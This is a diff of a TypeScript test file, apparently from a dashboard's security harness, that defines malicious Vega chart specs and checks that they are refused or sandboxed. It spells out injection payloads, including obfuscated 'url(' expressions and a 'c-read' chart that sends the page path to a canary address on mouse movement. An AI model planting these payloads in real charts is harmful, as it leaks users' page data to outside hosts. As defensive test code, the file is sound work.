@@ -1,139 +1,91 @@
-import type { Aim, ReportOf, Shown, WidgetAttack } from './attack.ts'
-import { compileGuard } from './guards.ts'
-import { until } from './until.ts'
+import { until } from '../../../harness/until.ts'
+import type { ReportSpec, Shown, WidgetAttack } from './attack.ts'
 
-const checks = ['charts are checked when saved', compileGuard] as const
-const loader = 'charts load nothing'
-const paint = 'charts are painted with colours'
+type Chart = Omit<ReportSpec, 'kind'>
+type More = { isAlone?: boolean; isCreators?: boolean; act?: WidgetAttack['act'] }
 
 const x = { field: 'orders.status', type: 'nominal' }
 const y = { field: 'orders.count', type: 'quantitative' }
 const bar = { mark: 'bar', encoding: { x, y } }
-const room = { width: 200, height: 100 }
+const size = { width: 200, height: 100 }
 const data = [{ name: 'rows' }]
 const everywhere = { x: { value: 0 }, y: { value: 0 }, width: { value: 200 }, height: { value: 100 } }
 
-const sharedBoard = (isCreators: boolean): string => (isCreators ? 'creators' : 'charts')
+const boardOf = (isCreators: boolean): string => (isCreators ? 'creators' : 'charts')
 
-const chart = (
-  name: string,
-  guards: readonly string[],
-  report: (aim: Aim) => Pick<ReportOf, 'spec' | 'vega' | 'dimensions'>,
-  { isAlone = false, isCreators = false, act }: { isAlone?: boolean; isCreators?: boolean; act?: WidgetAttack['act'] } = {},
-): WidgetAttack => ({
+/** `to`: the address on the canary that names the attack. */
+const chart = (name: string, report: (to: string) => Chart, { isAlone = false, isCreators = false, act }: More = {}): WidgetAttack => ({
   name,
-  guards,
-  board: isAlone ? name : sharedBoard(isCreators),
+  board: isAlone ? name : boardOf(isCreators),
   isCreators,
-  widget: (aim) => ({ report: { kind: 'vega', ...report(aim) } }),
+  widget: ({ canary }) => ({ report: { kind: 'vega', ...report(`${canary}/${name}`) } }),
   ...(act ? { act } : {}),
 })
 
-/** The mark that an attack is drawn as, found by the widget that it is in. */
+/** Moves the pointer over the mark of the attack. */
 const overMark =
   (name: string, isPressed = false) =>
   async ({ frame, hits }: Shown): Promise<void> => {
     const mark = frame.locator(`[data-widget="${name}"] .mark-rect path, [data-widget="${name}"] .mark-image image`).first()
-    // There is none where the chart is refused.
+    // A refused chart has no mark.
     if (!(await until(async () => (await mark.count()) > 0, 3000))) return
     await mark.hover({ force: true })
     if (!isPressed) return
     await mark.click({ force: true })
-    // A frame that goes elsewhere does so after the click.
     await until(() => hits.has(name), 1500)
   }
 
-const address = (aim: Aim, name: string): string => `${aim.canary}/${name}`
-
-const imageOf = (aim: Aim, name: string): Pick<ReportOf, 'spec' | 'vega'> => ({
-  spec: { mark: { type: 'image', url: address(aim, name) }, encoding: { x, y } },
-  vega: { ...room, data, marks: [{ type: 'image', encode: { enter: { ...everywhere, url: { value: address(aim, name) } } } }] },
+const imageOf = (to: string): Chart => ({
+  isRefused: true,
+  spec: { mark: { type: 'image', url: to }, encoding: { x, y } },
+  vega: { ...size, data, marks: [{ type: 'image', encode: { enter: { ...everywhere, url: { value: to } } } }] },
 })
 
-const dataOf = (aim: Aim, name: string): Pick<ReportOf, 'spec' | 'vega'> => ({
-  spec: { ...bar, data: { url: address(aim, name) } },
-  vega: { ...room, data: [...data, { name: 'more', url: address(aim, name) }], marks: [] },
+const dataOf = (to: string): Chart => ({
+  isRefused: true,
+  spec: { ...bar, data: { url: to } },
+  vega: { ...size, data: [...data, { name: 'more', url: to }], marks: [] },
 })
 
-const fillOf = (aim: Aim, name: string): Pick<ReportOf, 'spec'> => ({
-  spec: { ...bar, mark: { type: 'bar', fill: { expr: `'ur' + 'l(${address(aim, name)}#a)'` } } },
+const barWith = (mark: object): Chart => ({ spec: { ...bar, mark: { type: 'bar', ...mark } } })
+const expressionOf = (to: string): object => ({ expr: `'ur' + 'l(${to}#a)'` })
+
+const linkOf = (to: string): Chart => ({
+  ...barWith({ href: to }),
+  isRefused: true,
+  vega: { ...size, data, marks: [{ type: 'rect', encode: { enter: { ...everywhere, fill: { value: 'red' }, href: { value: to } } } }] },
 })
 
-/** Charts of an author, and rows that somebody else wrote. */
+/** Paints with an address that contains the path of the page. */
+const readOf = (to: string): Chart => ({
+  ...barWith({ fill: { expr: `'ur' + 'l(${to}?' + event.view.location.pathname + '#a)'` } }),
+  isRefused: true,
+  vega: {
+    ...size,
+    data,
+    signals: [{ name: 'leak', value: '', on: [{ events: 'pointermove, mousemove, pointerover', update: 'event.view.location.pathname' }] }],
+    marks: [{ type: 'rect', encode: { enter: everywhere, update: { fill: { signal: `leak ? 'url(${to}?' + leak + '#a)' : 'red'` } } } }],
+  },
+})
+
+/** Charts of an author, and rows with hostile values. */
 export const chartAttacks: readonly WidgetAttack[] = [
-  chart('c-data', [...checks, loader, 'page: connect-src'], (aim) => dataOf(aim, 'c-data')),
-  chart('c-image', [...checks, loader], (aim) => imageOf(aim, 'c-image')),
-  chart(
-    'c-link',
-    [...checks, loader],
-    (aim) => ({
-      spec: { ...bar, mark: { type: 'bar', href: address(aim, 'c-link') } },
-      vega: {
-        ...room,
-        data,
-        marks: [{ type: 'rect', encode: { enter: { ...everywhere, fill: { value: 'red' }, href: { value: address(aim, 'c-link') } } } }],
-      },
-    }),
-    { isAlone: true, act: overMark('c-link', true) },
-  ),
-  chart(
-    'c-cursor',
-    checks,
-    (aim) => ({
-      spec: { ...bar, mark: { type: 'bar', cursor: { expr: `'ur' + 'l(${address(aim, 'c-cursor')}), auto'` } } },
-      vega: {
-        ...room,
-        data,
-        marks: [
-          {
-            type: 'rect',
-            encode: { enter: { ...everywhere, fill: { value: 'red' }, cursor: { value: `url(${address(aim, 'c-cursor')}), auto` } } },
-          },
-        ],
-      },
-    }),
-    { act: overMark('c-cursor') },
-  ),
-  chart(
-    'c-read',
-    [...checks, paint],
-    (aim) => ({
-      spec: {
-        ...bar,
-        mark: { type: 'bar', fill: { expr: `'ur' + 'l(${address(aim, 'c-read')}?' + event.view.location.pathname + '#a)'` } },
-      },
-      vega: {
-        ...room,
-        data,
-        signals: [
-          { name: 'leak', value: '', on: [{ events: 'pointermove, mousemove, pointerover', update: 'event.view.location.pathname' }] },
-        ],
-        marks: [
-          {
-            type: 'rect',
-            encode: {
-              enter: everywhere,
-              update: { fill: { signal: `leak ? 'url(${address(aim, 'c-read')}?' + leak + '#a)' : 'red'` } },
-            },
-          },
-        ],
-      },
-    }),
-    { act: overMark('c-read') },
-  ),
-  chart('c-fill-expression', [paint], (aim) => fillOf(aim, 'c-fill-expression')),
-  chart('c-stroke-expression', [paint], (aim) => ({
-    spec: { ...bar, mark: { type: 'bar', stroke: { expr: `'ur' + 'l(${address(aim, 'c-stroke-expression')}#a)'` } } },
-  })),
-  chart('c-fill-escaped', [paint], (aim) => ({
-    spec: { ...bar, mark: { type: 'bar', fill: `u\\72l(${address(aim, 'c-fill-escaped')}#a)` } },
-  })),
-  chart('c-fill-rows', [paint], () => ({
+  chart('c-data', dataOf),
+  chart('c-image', imageOf),
+  chart('c-link', linkOf, { isAlone: true, act: overMark('c-link', true) }),
+  chart('c-cursor', (to) => ({ ...barWith({ cursor: { expr: `'ur' + 'l(${to}), auto'` } }), isRefused: true }), {
+    act: overMark('c-cursor'),
+  }),
+  chart('c-read', readOf, { act: overMark('c-read') }),
+  chart('c-fill-expression', (to) => barWith({ fill: expressionOf(to) })),
+  chart('c-stroke-expression', (to) => barWith({ stroke: expressionOf(to) })),
+  chart('c-fill-escaped', (to) => barWith({ fill: `u\\72l(${to}#a)` })),
+  chart('c-fill-rows', () => ({
     spec: { ...bar, encoding: { x, y, color: { field: 'orders.paint', scale: null } } },
     dimensions: ['orders.status', 'orders.paint'],
   })),
-  // Of creators: what a chart gets past its checks is kept off by the walls of its frame.
-  chart('c-creators-data', [...checks, loader, 'report: connect-src'], (aim) => dataOf(aim, 'c-creators-data'), { isCreators: true }),
-  chart('c-creators-image', [...checks, loader, 'report: img-src'], (aim) => imageOf(aim, 'c-creators-image'), { isCreators: true }),
-  chart('c-creators-fill', [paint, 'report: img-src'], (aim) => fillOf(aim, 'c-creators-fill'), { isCreators: true }),
+  // Charts of creators are drawn in a frame of their own.
+  chart('c-creators-data', dataOf, { isCreators: true }),
+  chart('c-creators-image', imageOf, { isCreators: true }),
+  chart('c-creators-fill', (to) => barWith({ fill: expressionOf(to) }), { isCreators: true }),
 ]
